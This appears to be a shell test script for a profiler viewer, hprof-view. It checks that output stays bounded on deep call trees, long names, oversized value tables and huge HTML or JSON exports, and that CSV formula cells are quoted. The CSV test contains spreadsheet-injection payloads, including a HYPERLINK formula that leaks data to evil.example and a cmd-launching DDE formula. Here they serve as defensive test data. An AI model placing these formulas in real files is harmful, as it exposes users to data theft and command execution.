#!/bin/bash
# hprof-view on hostile files (issue 15, items 4, 5 and 9a), written by
# cube_tools/hostile_profiles.py (smaller versions of ../shared/repro/viewer):
#   - a deep call tree: every view's output stays proportional to the file
#     and every view finishes in seconds (no O(depth^2) output, time or memory);
#   - a file that declares more values than it can hold is refused with one
#     line, and a huge but honest one is viewed in bounded memory and time;
#   - CSV cells that start like spreadsheet formulas are quoted as text.
set -u
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
VIEW=${TEST_VIEW:-$ROOT/build/tools/hprof-view}
W=${TEST_TMP:-$(mktemp -d)}
GEN="python3 $HERE/cube_tools/hostile_profiles.py"
ok() { echo "ok - $1"; }
notok() { echo "not ok - $1: $2"; }

if [ ! -x "$VIEW" ]; then notok "bounds: viewer built" "$VIEW missing (run make tools)"; exit 1; fi
cd "$W" || exit 1

# ---- deep call tree (item 4) ----------------------------------------------------------
# A comb 50000 frames deep (100000 call paths): before the fix the tree,
# --folded and --csv wrote gigabytes (indentation and paths grow with the
# depth), --flat and --mpi walked every caller of every path, --diff built
# a path string per call path.
N=50000
$GEN deep $N deep.cubex && $GEN deep $((N - 10)) deep2.cubex || { notok "bounds: deep profiles written" "generator failed"; exit 1; }
PATHS=$((2 * N))
LIMIT=$((400 * PATHS))          # bytes: 400 a call path
for args in "" --flat --mpi --hotspots --ranks --json --folded --csv "--html -" --hatchet --speedscope \
    "--diff deep2.cubex"; do
    name="deep: '${args:-tree}'"
    # shellcheck disable=SC2086
    timeout 10 "$VIEW" $args deep.cubex 2> err.txt | head -c $((LIMIT + 1)) > out.bin
    rc=${PIPESTATUS[0]} bytes=$(wc -c < out.bin)
    if [ "$bytes" -gt "$LIMIT" ]; then notok "$name: output bounded" "more than $LIMIT bytes for $PATHS call paths"
    elif [ "$rc" -ne 0 ]; then notok "$name: finishes" "exit $rc (124: over 10 s) $(head -c 200 err.txt)"
    else ok "$name: $bytes bytes for $PATHS call paths, in time"; fi
done

"$VIEW" deep.cubex > tree.txt 2> err.txt
longest=$(awk '{ if (length($0) > m) m = length($0) } END { print m + 0 }' tree.txt)
if grep -q '^\[97999 call paths deeper than 1000 levels not shown: --depth N shows them\]$' tree.txt &&
   grep -Eq '^ +98000\.000000 .* \[1000\] f \[\+2 below depth 1000\]$' tree.txt && [ "$longest" -lt 200 ]; then
    ok "deep: tree stops at 1000 levels with one line, depth shown as a number (longest line $longest)"
else notok "deep: tree cut" "longest line $longest; $(grep -m1 'not shown' tree.txt)"; fi
if "$VIEW" --folded deep.cubex | awk -F';' 'NF > 65 { bad = 1 } END { exit bad }' &&
   "$VIEW" --folded deep.cubex | grep -q '^f;f;f;f;f;f;f;f;\[\.\.\. 49937 frames \.\.\.\];f;.*;f;MPI_Send 1000000$'; then
    ok "deep: --folded paths cut in the middle past 64 frames"
else notok "deep: --folded paths" "$("$VIEW" --folded deep.cubex | tail -n 1 | cut -c1-200)"; fi

# ---- long names (item 4, the same class) ---------------------------------------------
# One 100 kB name referenced by 2000 call paths (a 6 kB file): before the
# fix every view printed (and hashed) the whole name on every path, 200 MB.
$GEN longname 100000 2000 long.cubex || { notok "long names: profile written" "generator failed"; exit 1; }
LIMIT=$((2000 * 2000 + 1000000))
for args in "" "--threshold 0" --flat --mpi --hotspots --ranks --json --folded --csv "--html -" --hatchet \
    --speedscope "--diff long.cubex"; do
    # shellcheck disable=SC2086
    timeout 10 "$VIEW" $args long.cubex 2> err.txt | head -c $((LIMIT + 1)) > out.bin
    rc=${PIPESTATUS[0]} bytes=$(wc -c < out.bin)
    if [ "$bytes" -gt "$LIMIT" ]; then notok "long names: '${args:-tree}': output bounded" "more than $LIMIT bytes"
    elif [ "$rc" -ne 0 ]; then notok "long names: '${args:-tree}': finishes" "exit $rc $(head -c 200 err.txt)"
    else ok "long names: '${args:-tree}': $bytes bytes"; fi
done
"$VIEW" --threshold 0 long.cubex > long.txt
if grep -Eq ' x{1024}\.\.\.\[\+98976 bytes\] \(line 2000\)$' long.txt; then ok "long names: cut past 1024 bytes, with the length left out"
else notok "long names: cut" "$(grep -m1 'line 2000' long.txt | cut -c1-200)"; fi
"$VIEW" --json long.cubex | python3 -c '
import json, sys; d = json.load(sys.stdin)
sys.exit(0 if len(d["regions"][1]["name"]) == 100000 and d["call_tree"][1]["name"].endswith("...[+98976 bytes]") else 1)' &&
    ok "long names: --json keeps the whole name in regions, cut in call_tree" || notok "long names: json" "names"

# ---- values: what the file can honestly hold (item 5) -------------------------------
# 16384 call paths x 16384 locations in files of about 200 KB. Before the
# fix every view materialised 2 x 2 GB of values (4.2 GB, 15 s).
#   shared: every row points at one compressed block: refused in one line;
#   sparse: one honest row (threads of one rank): the views read rows one at
#     a time and hold call paths (x ranks), in little memory; --csv, --json
#     and --check, which hold every location's values, say in one line that
#     the file cannot honestly hold that much;
#   procs: 16384 ranks of one thread: --ranks would need call paths x ranks.
# Each run: at most 600 MB of address space and 20 s.
$GEN cells 16384 16384 shared.cubex shared && $GEN cells 16384 16384 sparse.cubex sparse &&
    $GEN cells 16384 16384 procs.cubex procs || { notok "values: profiles written" "generator failed"; exit 1; }
bounded() { (ulimit -v 600000; timeout 20 "$VIEW" "$@" > out.txt 2> err.txt); }
# expect_error NAME PATTERN ARGS...: exit 2 and one line on stderr matching PATTERN
expect_error() {
    local name=$1 pat=$2; shift 2
    bounded "$@"; local rc=$?
    if [ $rc -eq 2 ] && [ "$(wc -l < err.txt)" -eq 1 ] && grep -Eq "$pat" err.txt; then ok "$name"
    else notok "$name" "exit $rc, $(wc -l < err.txt) lines: $(head -c 300 err.txt)"; fi
}
for args in "" --flat --ranks --csv --json --check; do
    # shellcheck disable=SC2086
    expect_error "values: '${args:-tree}' refuses rows sharing one compressed block" \
        '^hprof-view: shared\.cubex: 0\.data: 16384 rows of 131072 bytes cannot come from [0-9]+ compressed bytes' $args shared.cubex
done
for args in "" --flat --folded --ranks --mpi --hotspots "--html -" "--diff sparse.cubex"; do
    # shellcheck disable=SC2086
    bounded $args sparse.cubex; rc=$?
    if [ $rc -eq 0 ]; then ok "values: '${args:-tree}' on 16384 x 16384 (sparse) in bounded memory and time"
    else notok "values: '${args:-tree}' on sparse" "exit $rc (124: over 20 s; 137/139: out of memory) $(head -c 300 err.txt)"; fi
done
bounded --metric time --threshold 0 sparse.cubex
if grep -Eq '^ +16384\.000000 +100\.0% +0\.000000 +r$' out.txt && grep -Eq '^ +16384\.000000 .* r \(line 16383\)$' out.txt; then
    ok "values: sparse tree holds the one row (16384 s at line 16383)"
else notok "values: sparse tree" "$(head -c 400 out.txt)"; fi
for args in --csv --json --check; do
    expect_error "values: '$args' on 16384 x 16384 says it is too large, in one line" \
        'too large to hold in memory: 16384 call paths x 16384 locations' $args sparse.cubex
done
expect_error "values: '--ranks' on 16384 ranks says it is too large, in one line" \
    'too large to hold in memory' --ranks procs.cubex
bounded procs.cubex && ok "values: tree of 16384 ranks in bounded memory" || notok "values: procs tree" "$(head -c 300 err.txt)"

# ---- CSV formula injection (item 9a) ---------------------------------------------------
# Region and metric names starting with = @ + -: each text cell gets a
# leading single quote (OWASP), numbers such as -1.5 stay numbers.
$GEN csvinj inj.cubex || { notok "csv: injection profile written" "generator failed"; exit 1; }
"$VIEW" --csv inj.cubex > inj.csv 2> err.txt && "$VIEW" --csv-ids inj.cubex > ids.csv 2>> err.txt
out=$(python3 - inj.csv ids.csv <<'PY'
import csv, sys
bad = []
rows = list(csv.reader(open(sys.argv[1])))[1:]
ids = list(csv.reader(open(sys.argv[2])))[1:]
for r in rows:
    for cell in (r[0], r[3]):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            bad.append("formula cell %r" % cell[:40])
for r in ids:
    if r[2][:1] in ("=", "+", "-", "@"):
        bad.append("--csv-ids formula cell %r" % r[2])
paths = {r[0] for r in rows}
if """'=HYPERLINK("http://evil.example/?leak="&A1,"click")""" not in paths:
    bad.append("quoted HYPERLINK root missing: %r" % sorted(paths)[:1])
if not any(p.endswith(";@SUM(1+1)*cmd|' /C calc'!A0;+cmd;-cmd") for p in paths):
    bad.append("inner frames changed")
if ["'=metric"] != sorted({r[3] for r in rows} - {"time"}):
    bad.append("metric name not quoted")
neg = [r for r in rows if r[3] == "time" and r[4] == "-1.5"]
if len(neg) != 1:
    bad.append("-1.5 not printed as a number")
print("; ".join(bad) if bad else "%d rows, formula cells quoted, -1.5 a number" % len(rows))
sys.exit(1 if bad else 0)
PY
) && ok "csv: formula-like cells quoted as text ($out)" || notok "csv: formula injection" "$out $(head -c 200 err.txt)"

# ---- the HTML page of a huge profile (issue 30, item 9) ----------------------------
# 120001 call paths on 4 ranks, 6 metrics: the page held every path (43 MB;
# 786k paths of a real profile gave 200 MB). Now it holds what can be seen,
# the rest folded into '[N more call paths]' nodes that keep every caller's
# value exact, and says so in the page and in one line.
$GEN bushy 60000 bushy.cubex || { notok "html: huge profile written" "generator failed"; exit 1; }
timeout 60 "$VIEW" --html bushy.html bushy.cubex 2> err.txt; rc=$?
bytes=$(wc -c < bushy.html 2>/dev/null || echo 0)
if [ $rc -eq 0 ] && [ "$bytes" -le 4000000 ] && [ "$(wc -l < err.txt)" -eq 1 ] &&
   grep -Eq '^hprof-view: wrote bushy\.html \(page: [0-9]+ of 120001 call paths shown; the other [0-9]+ .*folded into [0-9]+ .\[N more call paths\]. nodes\)$' err.txt; then
    ok "html: a page of 120001 call paths is bounded ($bytes bytes) and says what it folded in one line"
else notok "html: page of a huge profile" "exit $rc, $bytes bytes: $(head -c 300 err.txt)"; fi
out=$(python3 - bushy.html <<'PY'
import json, re, sys
page = open(sys.argv[1]).read()
d = json.loads(re.search(r'<script id="hprof-data" type="application/json">(.*?)</script>', page, re.S).group(1))
names, parent = d["nodes"]["name"], d["nodes"]["parent"]
bad = []
if not any(l.startswith("page: ") and "of 120001 call paths shown" in l for l in d["header"]):
    bad.append("no 'page:' line in the header")
groups = [i for i, n in enumerate(names) if re.fullmatch(r"\[\d+ more call paths?\]", n)]
folded = sum(int(names[i][1:].split()[0]) for i in groups)
if not groups or len(names) - len(groups) + folded != 120001:
    bad.append("%d nodes, %d groups holding %d: not 120001 paths" % (len(names), len(groups), folded))
for heavy in ("main", "g0", "g1", "g9", "MPI_Send"):
    if heavy not in names:
        bad.append(heavy + " left out")
# every node's inclusive value = its exclusive value + its callees', on every rank
R = len(d["ranks"])
kids = {}
for i, p in enumerate(parent):
    kids.setdefault(p, []).append(i)
for m, v in d["values"].items():
    for i in range(len(names)):
        s = v["excl"][i] + sum(v["incl"][k] for k in kids.get(i, []))
        if abs(v["incl"][i] - s) > 1e-7 * max(1, abs(s)):  # printed with 9 digits
            bad.append("%s of %s: inclusive %r, exclusive + callees %r" % (m, names[i], v["incl"][i], s)); break
        rs = sum(v["ranks"][i * R:(i + 1) * R])
        if abs(rs - v["incl"][i]) > 1e-7 * max(1, abs(rs)):
            bad.append("%s of %s: ranks sum to %r, not %r" % (m, names[i], rs, v["incl"][i])); break
want = 4 * (1 + sum(1.5 / (i + 1) for i in range(60000)))
got = sum(d["values"]["time"]["incl"][i] for i in kids[-1])
if abs(got - want) > 1e-7 * want:
    bad.append("total time %r, not %r" % (got, want))
print("; ".join(bad[:3]) if bad else "%d nodes, %d of them groups of %d paths; totals exact" % (len(names), len(groups), folded))
sys.exit(1 if bad else 0)
PY
) && ok "html: folded page keeps every total: $out" || notok "html: folded page values" "$out"

# ---- --hatchet and --speedscope of a huge profile (issue 43, item 3) ------------------
# They hold a record per call path and rank: bounded as the page is, the
# callees left out folded into '[N more call paths]' nodes whose values on
# each rank are theirs, so every rank's totals stay exact.
for f in hatchet speedscope; do
    timeout 60 "$VIEW" --$f bushy.cubex > bushy.$f.json 2> err.$f.txt; rc=$?
    bytes=$(wc -c < bushy.$f.json)
    if [ $rc -eq 0 ] && [ "$bytes" -le 8000000 ] && [ "$(wc -l < err.$f.txt)" -eq 1 ] &&
       grep -Eq '^hprof-view: page: [0-9]+ of 120001 call paths shown; .*folded into [0-9]+ .\[N more call paths\]. nodes$' err.$f.txt; then
        ok "$f: 120001 call paths bounded ($bytes bytes), what was folded said in one line"
    else notok "$f: a huge profile" "exit $rc, $bytes bytes: $(head -c 300 err.$f.txt)"; fi
done
out=$(python3 - bushy.hatchet.json bushy.speedscope.json <<'PY'
import json, re, sys
h, s = json.load(open(sys.argv[1])), json.load(open(sys.argv[2]))
want = 1 + sum(1.5 / (i + 1) for i in range(60000))  # every rank's time
bad, per_rank, folded = [], {}, 0
graph = h["graph"][0]
for r in h["dataframe"]:
    per_rank[r["rank"]] = per_rank.get(r["rank"], 0) + r["time"]
    if r["rank"] == 0 and re.fullmatch(r"\[\d+ more call paths?\]", r["name"]):
        folded += int(r["name"][1:].split()[0])
shown = sum(1 for n in graph.values() if n["data"]["type"] != "folded")
if shown + folded != 120001:
    bad.append("hatchet: %d shown + %d folded paths, not 120001" % (shown, folded))
for rank, t in per_rank.items():
    if abs(t - want) > 1e-9 * want:
        bad.append("hatchet rank %d: time %r, not %r" % (rank, t, want))
for p in s["profiles"]:
    if abs(sum(p["weights"]) - want) > 1e-9 * want:
        bad.append("speedscope %s: weights %r, not %r" % (p["name"], sum(p["weights"]), want))
print("; ".join(bad[:3]) if bad else "%d nodes (%d paths folded); 4 ranks' time %.6f s in both" % (len(graph), folded, want))
sys.exit(1 if bad else 0)
PY
) && ok "hatchet, speedscope: folded exports keep every rank's total: $out" || notok "hatchet, speedscope: folded values" "$out"
